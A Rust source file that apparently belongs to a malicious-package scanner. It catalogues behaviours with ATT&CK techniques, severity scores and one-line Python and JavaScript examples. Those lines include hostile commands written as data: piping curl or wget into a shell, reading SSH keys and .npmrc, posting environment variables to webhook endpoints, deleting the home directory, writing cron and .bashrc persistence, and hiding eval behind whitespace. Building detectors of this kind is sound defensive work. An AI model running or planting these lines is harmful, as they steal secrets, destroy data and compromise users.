//! The vocabulary of behaviors: one row for each.

use serde::{Deserialize, Serialize};

/// A line of code that shows a feature, per language.
#[derive(Debug, Clone, Copy, Serialize)]
pub struct Example {
    /// A line of Python.
    pub python: &'static str,
    /// A line of JavaScript.
    pub javascript: &'static str,
}

macro_rules! technique {
    (none) => {
        None
    };
    ($technique:literal) => {
        Some($technique)
    };
}

/// So many that code behind them is out of sight.
macro_rules! blanks {
    () => {
        "                                                                                                    \
         \u{20}                                                                                                   "
    };
}

macro_rules! features {
    ($($name:ident $code:literal $phrase:literal $technique:tt, severity $severity:literal,
        python $python:expr, javascript $javascript:expr;)*) => {
        /// A language-neutral behavior. R, D, E and P are the 16 of the published system; X are ours.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
        pub enum Feature {
            $(#[doc = $phrase] #[serde(rename = $code)] $name,)*
        }

        impl Feature {
            /// Every feature, in catalogue order.
            pub const ALL: &'static [Feature] = &[$(Feature::$name,)*];

            /// The code, `R1` for instance.
            #[must_use]
            pub fn code(self) -> &'static str {
                match self { $(Feature::$name => $code,)* }
            }

            /// The phrase that the published sequence uses.
            #[must_use]
            pub fn phrase(self) -> &'static str {
                match self { $(Feature::$name => $phrase,)* }
            }

            /// The technique of MITRE ATT&CK that it most often serves; none for what is harmless by itself.
            #[must_use]
            pub fn technique(self) -> Option<&'static str> {
                match self { $(Feature::$name => technique!($technique),)* }
            }

            /// How grave it is by itself, of 100: where evidence is ranked and where a change is weighed.
            #[must_use]
            pub fn severity(self) -> u8 {
                match self { $(Feature::$name => $severity,)* }
            }

            /// Code that shows it. A line is a file of its own: what it needs is imported in it.
            #[must_use]
            pub fn example(self) -> Example {
                match self { $(Feature::$name => Example { python: $python, javascript: $javascript },)* }
            }
        }
    };
}

// Severity: what is harmful by itself stands above what most packages do, in the order of the behaviors' share among packages
// found malicious.
features! {
    ImportSystem "R1" "import operating system module" none, severity 4,
        python "import platform",
        javascript "const os = require('os')";
    CallSystem "R2" "use operating system module call" "T1082", severity 8,
        python "import os; os.getlogin()",
        javascript "import os from 'os'; os.hostname()";
    ImportFiles "R3" "import file system module" none, severity 4,
        python "import shutil",
        javascript "const fs = require('fs')";
    CallFiles "R4" "use file system module call" "T1005", severity 8,
        python "open('notes.txt').read()",
        javascript "require('fs').readFileSync('notes.txt')";
    ReadSecret "R5" "read sensitive information" "T1552", severity 80,
        python "from pathlib import Path; Path('~/.ssh/id_rsa').read_text()",
        javascript "require('fs').readFileSync(`${home}/.npmrc`)";
    ImportNetwork "D1" "import network module" none, severity 4,
        python "import requests",
        javascript "import axios from 'axios'";
    CallNetwork "D2" "use network module call" "T1071", severity 30,
        python "import requests; requests.get(address)",
        javascript "fetch(address)";
    UseUrl "D3" "use URL" "T1071", severity 20,
        python "address = 'https://collect.example.com/a'",
        javascript "const address = 'https://' + 'collect.example.com/a'";
    ImportEncoding "E1" "import encoding module" none, severity 4,
        python "import base64",
        javascript "const zlib = require('zlib')";
    CallEncoding "E2" "use encoding module call" "T1140", severity 16,
        python "import base64; base64.b64decode(data)",
        javascript "Buffer.from(data, 'base64')";
    UseBase64 "E3" "use base64 string" "T1027", severity 30,
        python "data = 'cHJpbnQoJ2hlbGxvIGZyb20gYSBiYXNlNjQgdGV4dCcp'",
        javascript "const data = 'Y29uc29sZS5sb2coJ2hlbGxvIGZyb20gYmFzZTY0Jyk='";
    UseLongString "E4" "use long string" "T1027", severity 16,
        python "data = bytes.fromhex('7072696e7428226120746578742074686174206973206c6f6e6720656e6f75676820746f2062652063616c6c65642061206c6f6e6720626c6f622229')",
        javascript "const data = Buffer.from('7072696e7428226120746578742074686174206973206c6f6e6720656e6f75676820746f2062652063616c6c65642061206c6f6e6720626c6f622229', 'hex')";
    ImportProcess "P1" "import process module" none, severity 4,
        python "import subprocess",
        javascript "const { exec } = require('child_process')";
    CallProcess "P2" "use process module call" "T1059", severity 50,
        python "import os; os.system('whoami')",
        javascript "require('child_process').execSync('whoami')";
    RunShell "P3" "use bash script" "T1059", severity 50,
        python "import os; os.system('curl http://203.0.113.5/a.sh | sh')",
        javascript "require('child_process').exec('wget -qO- http://203.0.113.5/a.sh | bash')";
    EvaluateCode "P4" "evaluate code at run-time" "T1059", severity 60,
        python "exec(text)",
        javascript "new Function(text)()";
    RunDecoded "X1" "run decoded code" "T1140", severity 90,
        python "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        javascript "eval(atob('Y29uc29sZS5sb2coMSk='))";
    SilentProcess "X2" "start silent process" "T1564", severity 80,
        python "import subprocess; subprocess.Popen(command, stdout=subprocess.DEVNULL)",
        javascript "const { spawn } = require('child_process'); spawn(command, [], { detached: true, stdio: 'ignore' })";
    Persist "X3" "use persistence location" "T1547", severity 80,
        python "open('/etc/cron.d/job', 'w').write(line)",
        javascript "require('fs').appendFileSync(home + '/.bashrc', line)";
    Destroy "X4" "destroy files" "T1485", severity 80,
        python "import os, shutil; shutil.rmtree(os.path.expanduser('~'))",
        javascript "require('fs').rmSync(require('os').homedir(), { recursive: true })";
    CheckEnvironment "X5" "check environment" "T1497", severity 28,
        python "import sys; sys.gettrace()",
        javascript "if (process.env.CI) process.exit()";
    CaptureInput "X6" "capture user input" "T1056", severity 80,
        python "from PIL import ImageGrab; ImageGrab.grab()",
        javascript "require('clipboardy').readSync()";
    UseCollector "X7" "use exfiltration endpoint" "T1567", severity 90,
        python "address = 'https://discord.com/api/webhooks/1/example'",
        javascript "const address = 'https://webhook.site/example'";
    LoadNative "X8" "load native code" "T1129", severity 40,
        python "import ctypes; ctypes.CDLL('library.so')",
        javascript "process.dlopen(module, 'library.node')";
    HideCode "X9" "hide code" "T1027", severity 70,
        python concat!("x = 1;", blanks!(), "exec(text)"),
        javascript concat!("const x = 1;", blanks!(), "eval(text)");
    Publish "X10" "publish package" "T1195", severity 60,
        python "import os; os.system('twine upload dist/*')",
        javascript "require('child_process').execSync('npm publish')";
    SendData "X11" "send collected data" "T1041", severity 100,
        python "import os, requests; requests.post(address, json=dict(os.environ))",
        javascript "fetch(address, { method: 'POST', body: JSON.stringify(process.env) })";
    RunDownloaded "X12" "run downloaded code" "T1105", severity 100,
        python "import requests; exec(requests.get(address).text)",
        javascript "fetch(address).then((answer) => answer.text()).then((text) => eval(text))";
}

impl Feature {
    /// Whether it belongs to the published vocabulary of 16.
    #[must_use]
    pub fn is_published(self) -> bool {
        self < Self::RunDecoded
    }
}
